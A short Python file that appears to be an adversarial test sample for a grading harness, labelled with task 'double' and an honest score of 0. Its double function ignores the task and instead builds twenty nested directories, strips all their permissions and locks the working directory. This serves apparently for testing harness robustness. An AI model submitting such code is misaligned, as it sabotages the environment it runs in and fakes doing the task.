# Tries: folders that their owner may not enter, with a program in them
# Task: double
# Honest score: 0

import os


def double(x):
    for number in range(20):
        os.makedirs(f"{number}/in/it")
        open(f"{number}/in/it/file", "w").close()
        os.chmod(f"{number}/in", 0)
        os.chmod(f"{number}", 0)
    os.umask(0o777)
    os.mkdir("closed")
    os.chmod(".", 0)
    return None
